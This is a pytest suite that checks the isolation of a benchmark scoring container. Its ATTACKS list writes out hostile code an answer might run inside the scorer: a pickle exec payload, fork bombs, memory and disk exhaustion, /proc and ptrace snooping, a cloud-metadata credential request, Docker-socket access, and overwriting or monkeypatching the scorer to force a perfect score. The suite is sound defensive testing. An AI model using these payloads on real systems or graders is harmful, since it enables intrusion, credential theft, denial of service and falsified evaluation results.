"""Attacks by an answer that gets to run as code inside its scorer, and so inside the sealed container.

Each is first shown to do harm to the product less the lines that should stop it. Then all are made in one evaluation
of the product, one after the other, while well-behaved clients' evaluations beside it end with the right score.
Such code reads its own target, which lies in its memory, and chooses its own verdict: neither is harm here.
"""

import asyncio
from collections.abc import Iterator, Mapping
from contextlib import AsyncExitStack
from dataclasses import dataclass, field
from typing import Any

import docker
import pytest
from docker.types import EndpointConfig, IPAMConfig, IPAMPool

from dep_mcp.containers import DockerRuntime
from dep_mcp.containers.runtime import SealedRuntime
from dep_mcp.protocol.errors import ContainerLostError, HardeningError
from dep_mcp.server.guard import TIMEOUT_S as GUARD_S
from tests.e2e.attacking import Change, Victim, WeakEngine, attacked, beside, target, toy_image, weak_runtime

pytestmark = pytest.mark.docker

METADATA = "169.254.169.254"
NETWORK = "dep-mcp-test-metadata"
GUARD, MAIN = "dep_mcp.server.guard", "dep_mcp.server.__main__"


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: What it does.
        code: Runs in the scorer, knows the `target`; sets `verdict` to 1 if it got what it wanted.
        server: Lines that the weakened server lacks.
        container: Fields of the create request that are otherwise in the weakened container.
    """

    name: str
    code: str
    server: tuple[Change, ...] = ()
    container: Mapping[str, object] = field(default_factory=dict)


async def harm(victim: Victim, *attacks: Attack) -> list[str]:
    """Make attacks, then give a right and a wrong answer; what went otherwise than it should."""
    texts = [*(f"#!{attack.code}" for attack in attacks), target(victim.items[len(attacks)]), "wrong"]
    names, seen = [*(attack.name for attack in attacks), "a right answer", "a wrong answer"], list[str]()
    for number, text in enumerate(texts):
        try:
            async with asyncio.timeout(GUARD_S + 1.5):
                done = await victim.submit(text, first=number)
        except TimeoutError:
            return [f"{names[number]}: never judged"]
        if done.get("accepted") != 1:
            seen.append(f"{names[number]}: {done}")
    values = [] if seen else await victim.values(first=len(texts))
    if await victim.leaked():
        seen.append("a target left the container")
    seen += [f"{name}: succeeded" for name, value in zip(names, values, strict=False) if value == 1.0]
    return [] if seen == ["a right answer: succeeded"] else seen or ["a right answer: found wrong"]


TO_ALL = """
import os
for descriptor in range(3, 256):
    try: os.write(descriptor, {data})
    except OSError: pass
"""
PICKLED = f"""
import os, pickle, struct
class Evil:
    def __reduce__(self):
        return exec, ({TO_ALL!r}.format(data=repr(("\\n" + target + "\\n").encode())),)
data = pickle.dumps(Evil())
"""
THROUGH_PROC = """
import os
for name in os.listdir(f"/proc/{os.getppid()}/fd"):
    try: os.write(os.open(f"/proc/{os.getppid()}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK), f"\\n{target}\\n".encode())
    except OSError: pass
"""
BOMB = """
import os, time
for number in range(100):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
verdict = 1.0
"""
SWARM = """
import os, time
if os.fork() == 0:
    while True:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError: time.sleep(0.001)
time.sleep(1)
"""
OVERWRITE = """
import sqlite3
with sqlite3.connect("/benchmark/bundle.sqlite") as db:
    db.execute("UPDATE items SET target = '1'")
open("/opt/sealed/dep_mcp/scoring/exact.py", "a").close()
verdict = 1.0
"""
FILL = """
for number in range(4):
    open(f"/tmp/{number}", "wb").write(bytes(30 << 20))
verdict = 1.0
"""
CALL_OUT = f"""
import socket, time
for attempt in range(50):
    try: line = socket.create_connection(("{METADATA}", 80), 3)
    except ConnectionRefusedError: time.sleep(0.1)
    else: break
line.send(b"GET /latest/meta-data/" + target.encode() + b" HTTP/1.0\\r\\n\\r\\n")
verdict = float(b"credentials" in line.makefile("rb").read())
"""
ENGINE = """
import socket
line = socket.socket(socket.AF_UNIX)
line.connect("/var/run/docker.sock")
line.send(b"GET /_ping HTTP/1.0\\r\\n\\r\\n")
verdict = float(b"200 OK" in line.recv(100))
"""
TRACE = """
import ctypes, os
verdict = float(ctypes.CDLL(None).ptrace(0x4206, os.getppid(), None, None) == 0)
"""
FORGE = """
import dep_mcp.scoring.exact as exact
exact.ExactMatch.score = lambda *_: 1.0
"""

IN_PLACE = (GUARD, "self._isolated if self._scorer.isolated else self._in_place", "self._in_place")
MAY_FORK = (GUARD, "resource.setrlimit(resource.RLIMIT_NPROC, (0, 0))", "pass")
DUMPABLE = (MAIN, "ctypes.CDLL(None).prctl(_PR_SET_DUMPABLE, 0, 0, 0, 0)", "pass")
READ_VERDICT = 'os.read(ours.fileno(), _FORM.size) if ours.poll(self._timeout_s) else b""'
UNCONFINED = {"SecurityOpt": ["seccomp=unconfined", "apparmor=unconfined"]}
ROOT: dict[str, object] = {"Config.User": "0:0", "CapDrop": [], **UNCONFINED}
ROOMY: dict[str, object] = {"Memory": 1 << 30, "MemorySwap": 1 << 30}

ATTACKS = (
    Attack(
        "prints the target",
        "import os, sys\nprint(target, file=sys.stderr, flush=True)\nos.write(1, target.encode())",
        ((GUARD, "os.dup2(sink, descriptor)", "pass"), (GUARD, "sys.stdout = sys.stderr =", "unused =")),
    ),
    Attack(
        "writes the target to the wire",
        TO_ALL.format(data='f"\\n{target}\\n".encode()'),
        ((GUARD, "os.closerange(3, verdict_end)", "pass"), (GUARD, "os.closerange(verdict_end + 1, 256)", "pass")),
    ),
    Attack(
        "raises the target",
        "raise type(target, (Exception,), {'__module__': 'builtins'})(target)",
        (
            IN_PLACE,
            (GUARD, "return math.nan, _fault(error)", "sys.stderr.write(f'{error}\\n')\n        return math.nan, 0"),
        ),
    ),
    Attack(
        "has its verdict unpickled by the server",
        PICKLED + TO_ALL.format(data='struct.pack("!i", len(data)) + data'),
        ((GUARD, READ_VERDICT, "_FORM.pack(*ours.recv())"),),
    ),
    Attack(
        "gives half a verdict",
        TO_ALL.format(data='b"x"') + "import time\ntime.sleep(60)",
        ((GUARD, READ_VERDICT, "ours.recv_bytes()"),),
    ),
    Attack("hangs", "while True: pass", ((GUARD, "ours.poll(self._timeout_s)", "ours.poll(None)"),)),
    Attack("writes to the wire through /proc", THROUGH_PROC, (DUMPABLE,)),
    Attack(
        "opens the server's memory through /proc",
        'import os\nopen(f"/proc/{os.getppid()}/mem", "r+b").close()\nverdict = 1.0',
        (DUMPABLE,),
    ),
    Attack(
        "reads the server's environment",
        'import os\nverdict = float(bool(open(f"/proc/{os.getppid()}/environ").read()))',
        (DUMPABLE,),
    ),
    Attack("finds later answers right", FORGE, (IN_PLACE,)),
    Attack("leaves a process behind", "import os, time\nif os.fork() == 0: time.sleep(60)\nverdict = 1.0", (MAY_FORK,)),
    Attack("takes all processes from the scorers after it", SWARM, (MAY_FORK,)),
    Attack("is a fork bomb", BOMB, (MAY_FORK,), {"PidsLimit": 200, **ROOMY}),
    Attack("eats memory", 'held = bytearray(b"x") * (400 << 20)\nverdict = 1.0', container=ROOMY),
    Attack("fills the host's disk", FILL, container={"Tmpfs": {}, "ReadonlyRootfs": False}),
    Attack(
        "overwrites data and scorer",
        OVERWRITE,
        container={"Config.User": "0:0", "CapDrop": [], "ReadonlyRootfs": False},
    ),
    Attack("asks the cloud's metadata address", CALL_OUT, container={"NetworkMode": NETWORK, **UNCONFINED}),
    Attack(
        "mounts",
        'import ctypes\nverdict = float(ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)',
        container=ROOT | {"CapAdd": ["SYS_ADMIN"]},
    ),
    Attack("traces the server", TRACE, container=ROOT | {"CapAdd": ["SYS_PTRACE"]}),
    Attack(
        "sees the host's processes",
        'import os\nverdict = float(sum(name.isdigit() for name in os.listdir("/proc")) > 8)',
        container={"PidMode": "host"},
    ),
    Attack(
        "looks behind masked paths",
        'import os\nverdict = float(bool(os.listdir("/sys/firmware")))',
        container={"MaskedPaths": []},
    ),
    Attack(
        "changes the kernel's settings",
        'open("/proc/sys/kernel/domainname", "w").write("mine")\nverdict = 1.0',
        container=ROOT | {"ReadonlyPaths": [], "CapAdd": ["SYS_ADMIN"]},
    ),
    Attack(
        "uses memory that others share",
        'open("/dev/shm/x", "w").close()\nverdict = 1.0',
        container={"IpcMode": "private"},
    ),
    Attack(
        "reads the host's files",
        'import os\nverdict = float(bool(os.listdir("/host/etc")))',
        container={"Binds": ["/:/host:ro"]},
    ),
    Attack(
        "asks the engine",
        ENGINE,
        container={"Config.User": "0:0", "Binds": ["/var/run/docker.sock:/var/run/docker.sock"]},
    ),
)


def names(attack: Attack) -> str:
    return attack.name.replace(" ", "-")


@pytest.fixture
def metadata_service() -> Iterator[Any]:
    """Starts what a cloud has at its metadata address: here a container on a network of that name."""
    serve = (
        "import http.server as h\n"
        "class H(h.BaseHTTPRequestHandler):\n"
        "    def do_GET(self): self.send_response(200); self.end_headers(); self.wfile.write(b'credentials')\n"
        "h.HTTPServer(('', 80), H).serve_forever()"
    )
    with docker.APIClient() as client:
        made: list[str] = []

        def start(image: str) -> None:
            pool = IPAMPool(subnet="169.254.169.0/24", gateway="169.254.169.1")
            client.create_network(NETWORK, ipam=IPAMConfig(pool_configs=[pool]), internal=True)
            container = client.create_container(
                image,
                entrypoint=["python", "-c", serve],
                user="0:0",
                networking_config={
                    "EndpointsConfig": {NETWORK: EndpointConfig(client.api_version, ipv4_address=METADATA)}
                },
                host_config=client.create_host_config(network_mode=NETWORK),
            )["Id"]
            made.append(container)
            client.start(container)

        try:
            yield start
        finally:
            for container in made:
                client.remove_container(container, force=True)
            for network in client.networks(names=[NETWORK]):
                client.remove_network(network["Id"])


@pytest.mark.parametrize("attack", ATTACKS, ids=names)
async def test_an_attack_from_inside_succeeds_on_a_weakened_build(attack: Attack, metadata_service: Any) -> None:
    """One that fails everywhere would show nothing."""
    async with weak_runtime(attack.container) as runtime:
        image = await toy_image(runtime, careless=True)
        if "metadata" in attack.name:
            await asyncio.to_thread(metadata_service, image)
        async with attacked(runtime, image, *attack.server) as victim:
            assert await harm(victim, attack)


async def test_every_attack_from_inside_fails_on_the_product() -> None:
    """Nothing leaves, nothing is overwritten, and answers after all of it are judged as they should be."""
    async with DockerRuntime() as runtime:
        image = await toy_image(runtime, careless=True)
        async with beside(runtime, wrong=0), beside(runtime, wrong=7), attacked(runtime, image, limit=None) as victim:
            assert await harm(victim, *ATTACKS) == []


async def test_code_that_kills_the_server_ends_its_own_evaluation_alone() -> None:
    """The scorer's child has the server's user, so it may: no score comes of it, and nobody else notices."""
    async with DockerRuntime() as runtime:
        image = await toy_image(runtime, careless=True)
        async with beside(runtime), attacked(runtime, image) as victim:
            await victim.submit("#!import os\nos.kill(os.getppid(), 9)")
            with pytest.raises(ContainerLostError):
                await victim.subject.score()


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.container], ids=names)
async def test_a_weakened_container_is_refused_before_it_starts(attack: Attack) -> None:
    """Should an engine apply less than it was asked for, these attacks never get to run."""
    with docker.APIClient() as client:
        made = client.create_network(NETWORK)["Id"] if "NetworkMode" in attack.container else None
        try:
            async with SealedRuntime(WeakEngine(attack.container)) as runtime, AsyncExitStack() as stack:
                with pytest.raises(HardeningError):
                    await stack.enter_async_context(attacked(runtime))
        finally:
            if made:
                client.remove_network(made)
